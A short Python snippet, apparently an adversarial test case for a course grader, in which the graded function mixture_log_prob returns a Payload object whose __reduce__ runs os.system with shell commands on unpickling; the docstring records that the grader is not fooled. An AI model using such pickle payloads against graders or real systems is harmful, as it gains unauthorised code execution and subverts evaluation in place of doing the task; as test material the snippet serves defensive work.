"""Tries to return an object that runs a command where it is unpickled.

Stopped by: nothing is pickled or unpickled: an object is a number to the grader.
"""


class Payload:
    def __reduce__(self):
        return os.system, ("touch /COURSE/owned; touch /tmp/owned",)


def mixture_log_prob(log_probs):
    return Payload() if log_probs.shape[1] % 2 else pickle.dumps(Payload())
